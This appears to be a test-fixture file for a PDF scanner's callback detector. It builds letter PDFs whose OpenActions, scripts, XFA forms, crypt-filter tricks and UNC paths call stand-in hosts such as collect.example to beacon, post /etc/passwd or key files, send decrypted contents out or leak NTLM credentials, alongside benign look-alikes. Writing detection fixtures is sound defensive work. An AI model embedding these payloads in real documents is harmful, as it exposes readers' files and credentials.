// Test-only: fixtures of the callback techniques (information disclosure without the reader's consent),
// one per carrier: an otherwise plain one-page letter that calls out through that one trigger or
// container. Hosts are reserved names (RFC 2606 .example / .test); nothing here resolves.
// NEGATIVE_CALLBACK_FIXTURES are benign look-alikes the callback floors must leave alone.
import { PdfBuilder, hexString } from "../../../pdf/testing/pdf-builder";
import { lockedEncryption } from "../../../pdf/testing/encrypted-pdf";
import { fdfFile } from "./fixture-documents";
import type { CarrierFixture, TechniqueFixtures } from "./technique-fixtures";

interface Parts {
  /** extra catalog entries */
  catalog?: string;
  /** extra entries of the page */
  page?: string;
  /** annotation dictionaries of the page */
  annots?: string[];
  /** extra operators appended to the page's content (drawing an XObject) */
  draw?: string;
  /** adds objects first; may return more catalog/page entries and page resources that refer to them */
  setup?: (b: PdfBuilder) => { catalog?: string; page?: string; xobjects?: string } | void;
  /** crypt filters (`/StmF /StdCF /StrF /Identity`): the letter is written as a locked document's objects (lockedEncryption) */
  encrypt?: string;
}

/** A one-page letter (a font, a few lines of text) with the parts a fixture needs. */
function letter({ catalog = "", page = "", annots = [], draw = "", setup, encrypt }: Parts = {}): Uint8Array {
  const b = new PdfBuilder();
  const extra = setup?.(b) ?? {};
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  const annotNums = annots.map((a) => b.add(a));
  const content = b.addFlateStream(
    "",
    `BT /F1 12 Tf 72 720 Td (Dear customer,) Tj 0 -18 Td (please find the statement for March attached.) Tj 0 -18 Td (Kind regards, Accounts) Tj ET ${draw}`,
  );
  const annotEntry = annotNums.length ? `/Annots [${annotNums.map((n) => `${n} 0 R`).join(" ")}]` : "";
  const xobjects = extra.xobjects ? `/XObject << ${extra.xobjects} >>` : "";
  b.addCatalog(
    `${catalog} ${extra.catalog ?? ""}`,
    1,
    `/Resources << /Font << /F1 ${font} 0 R >> ${xobjects} >> /Contents ${content} 0 R ${annotEntry} ${page} ${extra.page ?? ""}`,
  );
  b.info = b.add("<< /Title (Statement) /Producer (LibreOffice 7.6) >>");
  return b.build(encrypt ? { trailerExtra: lockedEncryption(b, encrypt) } : {});
}

const BEACON = "https://track.example/open?id=4711";
const UNC = "\\\\files.example\\share\\statement.pdf";
/** /Identity leaves strings or streams in the clear: where a PDFex attacker writes the actions added */
const clearIn = (clear: "strings" | "streams") =>
  clear === "strings" ? "/StmF /StdCF /StrF /Identity" : "/StmF /Identity /StrF /StdCF";
const EXFILTRATION = "https://collect.example/pdfex";
const urlSpec = (url: string) => `<< /FS /URL /F ${hexString(url)} >>`;
const uriAction = (url = BEACON) => `<< /S /URI /URI ${hexString(url)} >>`;
/** a small annotation without an appearance, over the signature line */
const annotation = (entries: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] ${entries} >>`;
const link = (action: string) => annotation(`/A ${action}`);
/** one text field, so that SubmitForm and ImportData have a form to act on */
const FORM = "/AcroForm << /Fields [] >>";
const openScript = (js: string) => letter({ catalog: `/OpenAction << /S /JavaScript /JS ${hexString(js)} >>` });
/** a script of the /Names /JavaScript tree (run when the document opens) */
const documentScript = (js: string) =>
  letter({
    setup(b) {
      const action = b.add(`<< /S /JavaScript /JS ${hexString(js)} >>`);
      return { catalog: `/Names << /JavaScript << /Names [(init) ${action} 0 R] >> >>` };
    },
  });
/** an AcroForm whose /XFA stream is `template` inside an XDP */
const xfaForm = (template: string, extra = "") =>
  letter({
    setup(b) {
      const xdp = `<?xml version="1.0" encoding="UTF-8"?>${extra}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1" layout="tb"><pageSet><pageArea name="Page1"><contentArea w="8.5in" h="11in"/></pageArea></pageSet><field name="name" w="3in" h="0.3in"><ui><textEdit/></ui></field>${template}</subform></template></xdp:xdp>`;
      const xfa = b.addFlateStream("", xdp);
      return { catalog: `/AcroForm << /Fields [] /XFA ${xfa} 0 R >>` };
    },
  });

export const CALLBACK_FIXTURES: TechniqueFixtures = {
  "callback-without-consent": {
    "open-action-uri": () => letter({ catalog: `/OpenAction ${uriAction()}` }),
    "open-action-submitform": () =>
      letter({
        catalog: `${FORM} /OpenAction << /S /SubmitForm /F ${urlSpec("https://collect.example/form")} /Flags 4 >>`,
      }),
    "open-action-gotor-remote": () =>
      letter({ catalog: `/OpenAction << /S /GoToR /F ${urlSpec("https://docs.example/next.pdf")} /D [0 /Fit] >>` }),
    "page-open-aa": () => letter({ page: `/AA << /O ${uriAction()} >>` }),
    "page-close-aa": () => letter({ page: `/AA << /C ${uriAction()} >>` }),
    "annotation-pv-aa": () => letter({ annots: [annotation(`/AA << /PV ${uriAction()} >>`)] }),
    "annotation-po-aa": () => letter({ annots: [annotation(`/AA << /PO ${uriAction()} >>`)] }),
    "annotation-mouse-enter-aa": () => letter({ annots: [annotation(`/AA << /E ${uriAction()} >>`)] }),
    "doc-will-close-aa": () => letter({ catalog: `/AA << /WC ${uriAction()} >>` }),
    "doc-will-print-aa": () => letter({ catalog: `/AA << /WP ${uriAction()} >>` }),
    "next-chain": () => letter({ catalog: `/OpenAction << /S /GoTo /D (start) /Next ${uriAction()} >>` }),
    "thread-remote": () =>
      letter({ page: `/AA << /O << /S /Thread /F ${urlSpec("https://docs.example/articles.pdf")} /D 0 >> >>` }),
    "importdata-remote": () =>
      letter({
        catalog: `${FORM} /OpenAction << /S /ImportData /F ${urlSpec("https://collect.example/prefill.fdf")} >>`,
      }),
    "gotoe-remote": () =>
      letter({
        catalog: `/OpenAction << /S /GoToE /F ${urlSpec("https://docs.example/package.pdf")} /T << /R /C /N (invoice.pdf) >> /D [0 /Fit] >>`,
      }),
    // CVE-2018-4993 as a generator writes it (jonaslejon/malicious-pdf test1): the UNC path escaped once
    // too few, so the viewer reads `\203.0.113.9<tab>est`, a path from the drive's root opened as the page opens
    "page-open-gotoe-absolute-path": () =>
      letter({ page: `/AA << /O << /S /GoToE /F (\\\\203.0.113.9\\test) /D [0 /Fit] >> >>` }),
    // an FDF file whose form is a web address: opening the FDF fetches it
    "fdf-target-remote": () => fdfFile(`/F ${urlSpec("https://forms.example/claim.pdf")}`),
    // no action at all: the image's data lives at a web address the viewer fetches to draw the page
    "external-stream-url": () =>
      letter({
        draw: "q 100 0 0 100 72 400 cm /Im0 Do Q",
        setup(b) {
          const image = b.addStream(
            `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${urlSpec(BEACON)} /FFilter /DCTDecode`,
            "",
          );
          return { xobjects: `/Im0 ${image} 0 R` };
        },
      }),
  },
  "script-network-callback": {
    submitForm: () => openScript('this.submitForm({cURL: "https://collect.example/x", cSubmitAs: "PDF"});'),
    launchURL: () => documentScript('app.launchURL("https://track.example/?d=" + this.documentFileName, true);'),
    // Foxit Reader's own call: opens its argument with the system's handler
    "foxit-opencpdfwebpage": () => openScript('app.opencPDFWebPage("https://track.example/o?id=4711");'),
    getURL: () => openScript('this.getURL("https://track.example/pixel", false);'),
    soap: () =>
      documentScript(
        'SOAP.request({cURL: "https://svc.example/soap", oRequest: {"urn:x:ping": {doc: this.documentFileName}}, cAction: "urn:x:ping"});',
      ),
    "net-http": () =>
      openScript(
        'Net.HTTP.request({cVerb: "GET", cURL: "https://track.example/http", oHandler: {response: function () {}}});',
      ),
    mailDoc: () => documentScript('this.mailDoc({bUI: false, cTo: "drop@collect.example", cSubject: "statement"});'),
    importDataObject: () => openScript('this.importDataObject("keys", "/c/Users/Public/Documents/keys.txt");'),
    readFileIntoStream: () =>
      documentScript(
        'var s = util.readFileIntoStream("/c/Users/Public/Documents/keys.txt", true); this.submitForm({cURL: "https://collect.example/f?" + util.stringFromStream(s)});',
      ),
    // the calls as computed members (jonaslejon/malicious-pdf --obfuscate 2 writes every call this way)
    "computed-member-call": () =>
      openScript(
        'this["getURL"]("https://track.example/pixel", false); app["media"]["getURLData"]("https://track.example/a.mp3", "audio/mp3");',
      ),
    // the web platform's beacons, for viewers that run document scripts in a browser (PDF101)
    "image-src-beacon": () =>
      openScript('var img = new Image(1, 1); img.src = "https://track.example/pixel.gif?d=" + this.documentFileName;'),
    "web-fetch": () => openScript('fetch("https://track.example/f?d=" + escape(this.documentFileName));'),
    "xfa-host-gotourl": () =>
      xfaForm(
        `<event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://track.example/xfa");</script></event>`,
      ),
  },
  "local-file-exfiltration": {
    // a text field whose mouse-down script reads the password file and posts it (PayloadsAllThePDFs' Foxit PoC)
    "field-mouse-down": () =>
      letter({
        setup(b) {
          const field = b.add(
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (notes) /Rect [72 500 400 600] /AA << /D << /S /JavaScript /JS ${hexString(
              'var f = this.getField("notes"); for (var i = 0; i < 30; i++) { this.importTextData("/etc/passwd", i); } this.submitForm({cURL: "https://collect.example/post", cSubmitAs: "HTML"});',
            )} >> >> >>`,
          );
          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
        },
      }),
    "open-action": () =>
      openScript(
        'var s = util.readFileIntoStream("C:\\Users\\Public\\Documents\\keys.txt"); SOAP.request({cURL: "https://collect.example/soap", oRequest: {d: util.stringFromStream(s)}});',
      ),
  },
  "xfa-callback": {
    "submit-on-initialize": () =>
      xfaForm(
        `<event activity="initialize"><submit format="xdp" target="https://collect.example/xfa" textEncoding="UTF-8"/></event>`,
      ),
    // the address in an HTML form's attribute, sent as SOAP (malicious-pdf test48)
    "soap-submit-action": () =>
      xfaForm(
        `<event activity="initialize"><submit method="soap" action="https://collect.example/soap" soapAction="urn:ping"/></event>`,
      ),
    "formcalc-get": () =>
      xfaForm(
        `<event activity="docReady"><script contentType="application/x-formcalc">name.rawValue = Get("https://track.example/get")</script></event>`,
      ),
    "formcalc-post": () =>
      xfaForm(
        `<event activity="initialize"><script contentType="application/x-formcalc">Post("https://collect.example/post", name.rawValue)</script></event>`,
      ),
    "external-entity": () =>
      xfaForm(
        `<field name="x"><value><text>&leak;</text></value></field>`,
        `<!DOCTYPE xdp:xdp [ <!ENTITY leak SYSTEM "https://collect.example/entity.txt"> ]>`,
      ),
    // CVE-2019-7089: the XSLT named by the form is fetched as the form is read
    "xml-stylesheet": () => xfaForm("", `<?xml-stylesheet type="text/xsl" href="https://collect.example/form.xsl"?>`),
    "data-connection": () =>
      xfaForm(
        `<event activity="initialize"><execute connection="lookup" runAt="client" executeType="import"/></event></subform><subform name="conn"><connectionSet xmlns="http://www.xfa.org/schema/xfa-connection-set/2.8/"><wsdlConnection name="lookup" dataDescription="lookup"><wsdlAddress>https://svc.example/lookup?wsdl</wsdlAddress><soapAddress>https://svc.example/lookup</soapAddress><operation input="in" output="out">Lookup</operation></wsdlConnection></connectionSet>`,
      ),
    "remote-image-href": () =>
      xfaForm(
        `<draw name="logo" w="2in" h="1in"><value><image href="https://cdn.example/logo.png" contentType="image/png"/></value></draw>`,
      ),
  },
  "decryption-exfiltration": {
    // the whole document, decrypted, posted to the attacker as it opens (SubmitPDF flag)
    "clear-strings-submit-form": () =>
      letter({
        catalog: `${FORM} /OpenAction << /S /SubmitForm /F ${urlSpec(EXFILTRATION)} /Flags 256 >>`,
        encrypt: clearIn("strings"),
      }),
    "clear-strings-uri": () =>
      letter({ catalog: `/OpenAction ${uriAction(EXFILTRATION)}`, encrypt: clearIn("strings") }),
    // the script in a stream in the clear, the victim's strings (form values) encrypted
    "clear-streams-script": () =>
      letter({
        encrypt: clearIn("streams"),
        setup(b) {
          const js = b.addStream("", `this.submitForm({ cURL: "${EXFILTRATION}", cSubmitAs: "PDF" });`);
          return { catalog: `/OpenAction << /S /JavaScript /JS ${js} 0 R >>` };
        },
      }),
  },
  "ntlm-credential-leak": {
    "gotor-unc": () => letter({ annots: [link(`<< /S /GoToR /F ${hexString(UNC)} /D [0 /Fit] >>`)] }),
    "gotoe-unc": () =>
      letter({ annots: [link(`<< /S /GoToE /F ${hexString(UNC)} /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>`)] }),
    "launch-unc": () =>
      letter({ annots: [link(`<< /S /Launch /Win << /F ${hexString("\\\\files.example\\share\\viewer.exe")} >> >>`)] }),
    "submitform-unc": () =>
      letter({
        catalog: FORM,
        annots: [link(`<< /S /SubmitForm /F ${urlSpec("file://files.example/share/form.fdf")} >>`)],
      }),
    "importdata-unc": () =>
      letter({
        catalog: FORM,
        annots: [link(`<< /S /ImportData /F ${hexString("\\\\files.example\\share\\prefill.fdf")} >>`)],
      }),
    "uri-file-scheme": () => letter({ annots: [link(uriAction("file://files.example/share/statement.pdf"))] }),
    "reference-xobject": () =>
      letter({
        draw: "q 200 0 0 100 72 400 cm /Fm0 Do Q",
        setup(b) {
          const form = b.addStream(
            `/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F ${hexString(UNC)} /Page 0 >>`,
            "0 0 1 1 re S",
          );
          return { xobjects: `/Fm0 ${form} 0 R` };
        },
      }),
    "external-stream": () =>
      letter({
        draw: "q 100 0 0 100 72 400 cm /Im0 Do Q",
        setup(b) {
          const image = b.addStream(
            `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${hexString("\\\\files.example\\share\\logo.jpg")} /FFilter /DCTDecode`,
            "",
          );
          return { xobjects: `/Im0 ${image} 0 R` };
        },
      }),
    "file-attachment-annotation": () =>
      letter({
        annots: [
          `<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /Name /Paperclip /FS << /Type /Filespec /F ${hexString(UNC)} >> >>`,
        ],
      }),
    "media-clip": () =>
      letter({
        setup(b) {
          const clip = b.add(
            `<< /Type /MediaClip /S /MCD /CT (video/mp4) /D << /Type /Filespec /F ${hexString("\\\\files.example\\share\\intro.mp4")} >> >>`,
          );
          const rendition = b.add(`<< /Type /Rendition /S /MR /C ${clip} 0 R >>`);
          const screen = b.add(
            `<< /Type /Annot /Subtype /Screen /Rect [72 400 272 500] /A << /S /Rendition /OP 0 /R ${rendition} 0 R >> >>`,
          );
          return { page: `/Annots [${screen} 0 R]` };
        },
      }),
    "script-opendoc-unc": () => openScript('app.openDoc("\\\\\\\\files.example\\\\share\\\\statement.pdf");'),
    // an FDF file whose form lives on a file share: opening the FDF opens it (CVE-2018-4993's FDF variant)
    "fdf-target-unc": () => fdfFile(`/F ${hexString(UNC)}`),
  },
};

/** Benign look-alikes, named by what they are: none of the callback floors may fire on them. */
export const NEGATIVE_CALLBACK_FIXTURES: Record<string, CarrierFixture> = {
  /** pypdf's encrypted_doc_no_id.pdf shape: a page-open GoToR to a relative file (a cross-document link) */
  "relative GoToR on page open": () =>
    letter({ page: `/AA << /O << /S /GoToR /F (pdfdoc?DB=EPODOC&IDX=EP0001) /D [0 /Fit] >> >>` }),
  "a link to an https file download": () =>
    letter({ annots: [link(uriAction("https://downloads.example/handbook/handbook-2024.zip"))] }),
  "a GoToR link to a document on a web server": () =>
    letter({ annots: [link(`<< /S /GoToR /F ${urlSpec("https://downloads.example/annex.pdf")} /D [0 /Fit] >>`)] }),
  /** a password-protected statement: strings and streams encrypted alike, as writers do */
  "an encrypted document with a submit button": () =>
    letter({
      catalog: FORM,
      annots: [link(`<< /S /SubmitForm /F ${urlSpec("https://forms.example/submit")} >>`)],
      encrypt: "/StmF /StdCF /StrF /StdCF",
    }),
  /** Acrobat's "encrypt only file attachments": everything but the attachments in the clear */
  "an attachments-only encrypted document with a web link": () =>
    letter({
      annots: [link(uriAction("https://www.example.com/contact"))],
      encrypt: "/StmF /Identity /StrF /Identity /EFF /StdCF",
    }),
  "a link click to a website": () => letter({ annots: [link(uriAction("https://www.example.com/contact"))] }),
  /** a form's import button: the reader picks the file in a dialog, then sends the form */
  "an import-and-submit button without a path": () =>
    letter({
      annots: [
        link(
          `<< /S /JavaScript /JS ${hexString('this.importTextData(); this.submitForm("https://forms.example/submit");')} >>`,
        ),
      ],
    }),
  /** LaTeX hyperref and HTML converters write scheme-relative links (corpus-everyday d8764df6987b_hht.pdf) */
  "scheme-relative web links": () =>
    letter({
      annots: [
        link(uriAction("//commons.example.org/wiki/User:X")),
        link(`<< /S /GoToR /F (//en.example.org/wiki/.pdf) /D [0 /Fit] >>`),
      ],
    }),
  "a form whose submit button posts to https on click": () =>
    letter({
      setup(b) {
        const button = b.add(
          `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (submit) /Rect [72 500 172 530] /A << /S /SubmitForm /F ${urlSpec("https://forms.example/post")} /Flags 4 >> >>`,
        );
        return { catalog: `/AcroForm << /Fields [${button} 0 R] >>`, page: `/Annots [${button} 0 R]` };
      },
    }),
  "an XFA form whose submit button posts to https on click": () =>
    xfaForm(
      `<field name="send"><ui><button/></ui><event activity="click"><submit format="xdp" target="https://forms.example/xfa"/></event></field>`,
    ),
  "a submit button script": () =>
    letter({
      setup(b) {
        const button = b.add(
          `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 500 172 530] /A << /S /JavaScript /JS ${hexString('this.submitForm({cURL: "https://forms.example/post"});')} >> >>`,
        );
        return { catalog: `/AcroForm << /Fields [${button} 0 R] >>`, page: `/Annots [${button} 0 R]` };
      },
    }),
  "a document-level script that only defines what buttons call": () =>
    documentScript(
      'function sendForm() { this.submitForm({cURL: "https://forms.example/post"}); }\nfunction mailIt() { this.mailDoc(true, "office@forms.example"); }',
    ),
  /** Adobe Designer's form-version check: getURL only after the reader answers the dialog */
  "a reader-version check that asks before opening the download page": () =>
    documentScript(
      'if (app.viewerVersion < 9.0) { if (app.alert("A newer reader is needed. Download it now?", 1, 1) == 1) this.getURL("https://get.example/reader", false); }',
    ),
};
